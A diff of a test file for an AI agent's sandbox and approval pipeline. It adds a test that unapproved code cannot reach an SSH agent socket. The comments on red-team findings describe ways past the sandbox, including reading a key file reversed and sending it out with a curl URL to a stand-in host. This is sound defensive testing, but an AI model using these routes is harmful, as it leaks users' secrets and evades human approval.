@@ -6,6 +6,7 @@
 import { execFileSync } from 'node:child_process';
 import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { createServer } from 'node:net';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { Pipeline } from '../../runtime/pipeline/pipeline.ts';
 import { makeTempDir } from '../executors/make-context.ts';
@@ -104,6 +105,28 @@ describe('a store whose files are links (stow: ~/.aws/credentials -> ~/dotfiles/
   });
 });
 
+describe('a unix socket elsewhere in the home (an ssh agent: ~/.1password/agent.sock)', () => {
+  it('cannot be reached by code run without a card, and is reached once a person approves', async () => {
+    const socket = join(home, '.1password', 'agent.sock');
+    await mkdir(join(home, '.1password'), { recursive: true });
+    await rm(socket, { force: true });
+    const server = createServer((connection) => connection.end('hello'));
+    await new Promise<void>((done) => server.listen(socket, done));
+    try {
+      const connect = `node -e "require('node:net').connect(process.argv[1]).on('data', (d) => console.log('reached', String(d))).on('error', (e) => console.log('refused', e.code))" ${socket}`;
+      const hidden = await runReadOnly('node -e "1"', connect);
+      expect(String(hidden.stdout)).toMatch(/^refused/);
+      const approved = await pipeline.evaluate(
+        call('shell_exec', { command: connect, cwd: project }, 'agent', { approvedBy: 'local:1' }),
+      );
+      const reached = await pipeline.invoke(approved, new AbortController().signal);
+      expect(reached).toMatchObject({ ok: true, result: { stdout: 'reached hello\n' } });
+    } finally {
+      await new Promise((done) => server.close(done));
+    }
+  });
+});
+
 describe('processes of code run without a card', () => {
   it('cannot start more than sandbox.uncarded_max_processes (a fork bomb in an unreviewed Makefile or test stops there)', async () => {
     pipeline.close();
@@ -132,13 +155,6 @@ print(children)"`;
 });
 
 describe('open after red team 2 (docs/notes/2026-11-26-s5/redteam2.md)', () => {
-  // Seen in a real run: node -e connected to a listening ~/.1password/agent.sock and got its
-  // answer. Only the known places (/run, XDG_RUNTIME_DIR, the container engines' dirs) are
-  // hidden; a socket elsewhere in the home connects through the read-only bind. The class fix is
-  // a seccomp filter (bwrap --seccomp) refusing socket(AF_UNIX) to uncarded calls.
-  it.todo(
-    'read-only code reaches no unix socket anywhere in the home (an ssh agent, an editor or a terminal server)',
-  );
   // Seen in real runs: read-only code prints ~/notes/keys.txt reversed (no output check can know
   // it), and `curl -fsSL https://host/<that text>` then runs without a card (fetch tier). Every
   // file readable without a card can be sent out this way; the content check only holds plain,
